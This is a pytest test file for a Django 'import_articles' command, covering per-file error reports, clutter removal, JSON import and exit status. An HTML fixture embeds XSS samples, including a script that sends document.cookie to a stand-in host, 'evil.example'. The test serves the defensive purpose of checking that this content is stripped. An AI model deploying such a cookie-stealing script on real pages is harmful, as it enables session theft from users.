"""`manage.py import_articles`: per-file reports, one transaction per file, exit status."""

import json
import shutil
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import ManagementUtility, call_command
from django.core.management.base import CommandError
from django.db import connections

from articles.models import Article
from articles.services import content_hash

DEMO_DIR = Path(__file__).resolve().parents[2] / "articles" / "demo"
PARLER_BID = "Federal judge blocks Parler's bid to be restored on Amazon Web Services"
CLOUD_SUSPENDS = "Amazon Cloud suspends Parler whilst talks of MAGA political party continue"
CLUTTER_LINES = [
    "Leave a Comment",
    "Leave a Reply",
    "Related News",
    "Photo credit: Derick McKinney/Unsplash",
    "85 2",
    "Your email address will not be published. Required fields are marked *",
]
PARAGRAPH = "This paragraph has enough words in it to read like the body of a real news story."
SCRIPT_PAGE = f"""<html><head><title>Scripted page</title>
<script>alert("head script"); fetch("https://evil.example/steal?c=" + document.cookie)</script>
</head><body><article><h1>Scripted page</h1>
<p>{PARAGRAPH}</p>
<script type="text/javascript">document.write("<b>INJECTED</b>"); alert(1)</script>
<p onmouseover="alert('hover')">Another: {PARAGRAPH}</p>
<img src="x" onerror="alert('img')">
</article></body></html>"""


def run(*paths) -> tuple[str, str]:
    """Run the command; return (stdout, stderr) and re-raise its CommandError, if any."""
    out, err = StringIO(), StringIO()
    try:
        call_command("import_articles", *map(str, paths), stdout=out, stderr=err)
    except CommandError as exc:
        exc.output = (out.getvalue(), err.getvalue())
        raise
    return out.getvalue(), err.getvalue()


def run_failing(*paths) -> tuple[str, str, str]:
    """Run a command that must fail; return (stdout, stderr, CommandError message)."""
    with pytest.raises(CommandError) as caught:
        run(*paths)
    return (*caught.value.output, str(caught.value))


def write(directory: Path, name: str, content: str | bytes) -> Path:
    path = directory / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


@pytest.fixture
def demo_copy(tmp_path) -> Path:
    target = tmp_path / "demo"
    shutil.copytree(DEMO_DIR, target)
    return target


# --- the demo articles ----------------------------------------------------------------


@pytest.mark.django_db
def test_imports_both_demo_articles(demo_copy):
    out, err = run(demo_copy)

    first = Article.objects.get(title=PARLER_BID)
    second = Article.objects.get(title=CLOUD_SUSPENDS)
    assert out.splitlines() == [
        f"imported: {demo_copy / '000_fd4a55dcac06667b.txt'}: {PARLER_BID} (id {first.pk})",
        f"imported: {demo_copy / '004_68581c8c0e07d598.txt'}: {CLOUD_SUSPENDS} (id {second.pk})",
    ]
    assert err == ""
    assert Article.objects.count() == 2


@pytest.mark.django_db
def test_stored_demo_text_is_the_body_only(demo_copy):
    run(demo_copy)

    for article in Article.objects.all():
        lines = {line.strip() for line in article.text.split("\n")}
        assert not lines & set(CLUTTER_LINES)
        assert "\n\n\n" not in article.text
        assert article.content_hash == content_hash(article.title, article.text)
        assert article.created_by is None
    second = Article.objects.get(title=CLOUD_SUSPENDS)
    assert "five officers that died" in second.text
    assert second.text.startswith("While some social media users breathed a sigh of relief")
    assert second.text.endswith("on the week beginning February 8.")
    first = Article.objects.get(title=PARLER_BID)
    assert first.text.startswith("So our esteemed founder and architect predicted this")
    assert first.text.endswith("overshadowed by the bad.\n\nGood luck Parler!!!")


@pytest.mark.django_db
def test_reimport_reports_unchanged_and_stores_nothing_new(demo_copy):
    run(demo_copy)
    before = list(Article.objects.order_by("pk").values_list("pk", "version", "updated_at"))

    out, err = run(demo_copy / "004_68581c8c0e07d598.txt", demo_copy)

    second = Article.objects.get(title=CLOUD_SUSPENDS)
    assert out.splitlines()[0] == (
        f"unchanged: {demo_copy / '004_68581c8c0e07d598.txt'}: {CLOUD_SUSPENDS} (id {second.pk})"
    )
    assert [line.split(":")[0] for line in out.splitlines()] == ["unchanged"] * 3
    assert err == ""
    assert list(Article.objects.order_by("pk").values_list("pk", "version", "updated_at")) == (
        before
    )


# --- bad files next to good ones ------------------------------------------------------


@pytest.mark.django_db
def test_bad_files_are_reported_and_good_files_still_imported(tmp_path, demo_copy):
    bad = tmp_path / "bad"
    bad.mkdir()
    files = {
        "binary.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
        "empty.txt": (b"", "the file is empty"),
        "notes.pdf": (b"%PDF-1.4", "unsupported file type '.pdf'"),
        "broken.json": ('{"title": "T",\n"text": }', "invalid JSON at line 2, column 9"),
        "no_text.json": ('{"title": "Only a title"}', "missing 'text'"),
        "clutter.txt": (
            "Photo credit: X/Y\n\n85 2\n\nLeave a Comment\n\nOnly a comment",
            "no article text left after removing page clutter",
        ),
        "latin1.txt": ("Titre\n\nCafé".encode("latin-1"), "not UTF-8 text"),
    }
    for name, (content, _) in files.items():
        write(bad, name, content)

    out, err, summary = run_failing(*sorted(bad.iterdir()), demo_copy)

    errors = err.splitlines()
    assert len(errors) == len(files)
    for name, (_, message) in files.items():
        [line] = [e for e in errors if e.startswith(f"error: {bad / name}: ")]
        assert message in line
    assert summary == f"{len(files)} of {len(files) + 2} files could not be imported."
    assert [line.split(":")[0] for line in out.splitlines()] == ["imported", "imported"]
    assert set(Article.objects.values_list("title", flat=True)) == {PARLER_BID, CLOUD_SUSPENDS}


@pytest.mark.django_db
def test_html_with_scripts_stores_only_the_text(tmp_path):
    path = write(tmp_path, "scripted.html", SCRIPT_PAGE)

    out, _ = run(path)

    article = Article.objects.get()
    assert out == f"imported: {path}: Scripted page (id {article.pk})\n"
    assert article.text == f"{PARAGRAPH}\n\nAnother: {PARAGRAPH}"
    stored = f"{article.title}\n{article.text}\n{article.byline}\n{article.publisher}"
    for forbidden in ("<script", "<", "alert(", "INJECTED", "document.", "evil.example"):
        assert forbidden not in stored


@pytest.mark.django_db
def test_file_whose_later_article_fails_stores_none_of_its_articles(tmp_path, demo_copy):
    items = [
        {"title": "Fine article", "text": "Body one."},
        {"title": "T" * 501, "text": "Body two."},  # longer than Article.title allows
    ]
    path = write(tmp_path, "half.json", json.dumps(items))

    out, err, _ = run_failing(path, demo_copy)

    assert err.startswith(f"error: {path}: title: Ensure this value has at most 500 characters")
    assert "Fine article" not in out
    assert not Article.objects.filter(title="Fine article").exists()
    assert Article.objects.count() == 2


@pytest.mark.django_db
def test_text_with_nul_escape_in_json_is_refused(tmp_path):
    path = write(tmp_path, "nul.json", json.dumps({"title": "T", "text": "a\u0000b"}))

    _, err, _ = run_failing(path)

    assert err == f"error: {path}: text: Contains a NUL character.\n"
    assert not Article.objects.exists()


@pytest.mark.django_db
def test_missing_path_is_an_error(tmp_path):
    _, err, summary = run_failing(tmp_path / "nowhere.txt")

    assert err.startswith(f"error: {tmp_path / 'nowhere.txt'}: cannot be read")
    assert summary == "1 of 1 files could not be imported."


@pytest.mark.django_db
def test_directory_walk_skips_unsupported_files_quietly(tmp_path):
    nested = tmp_path / "in" / "deeper"
    nested.mkdir(parents=True)
    write(tmp_path / "in", "README.md", "# not an article")
    write(tmp_path / "in", "picture.png", b"\x89PNG\x00")
    write(nested, "story.TXT", "Nested title\n\nNested body.")

    out, err = run(tmp_path / "in")

    assert out.startswith(f"imported: {nested / 'story.TXT'}: Nested title (id ")
    assert err == ""


@pytest.mark.django_db
def test_directory_without_article_files_fails(tmp_path):
    write(tmp_path, "README.md", "# not an article")

    _, err, summary = run_failing(tmp_path)

    assert "no .txt, .html, .htm, .json, .jsonl files" in err
    assert summary == "No article files found."


@pytest.mark.django_db
def test_json_and_jsonl_import(tmp_path):
    one = {"title": "From JSON", "text": "Body.", "url": "https://example.org/json"}
    write(tmp_path, "one.json", json.dumps(one))
    lines = [{"title": "Line one", "text": "Body one."}, {"title": "Line two", "text": "Two."}]
    write(tmp_path, "many.jsonl", "\n".join(json.dumps(line) for line in lines))

    out, _ = run(tmp_path)

    assert len(out.splitlines()) == 3
    stored = Article.objects.get(url="https://example.org/json")
    assert (stored.title, stored.text) == ("From JSON", "Body.")
    assert Article.objects.filter(title__in=["Line one", "Line two"]).count() == 2


@pytest.mark.django_db
def test_failure_exits_with_status_1(tmp_path, demo_copy, capsys, monkeypatch):
    bad = write(tmp_path, "empty.txt", b"")
    # run_from_argv closes connections when done, which would end the test's transaction.
    monkeypatch.setattr(connections, "close_all", lambda: None)
    argv = ["manage.py", "import_articles", "--skip-checks", str(bad), str(demo_copy)]

    with pytest.raises(SystemExit) as exited:
        ManagementUtility(argv).execute()

    assert exited.value.code == 1
    captured = capsys.readouterr()
    assert f"error: {bad}: the file is empty" in captured.err
    assert "CommandError: 1 of 3 files could not be imported." in captured.err
    assert Article.objects.count() == 2
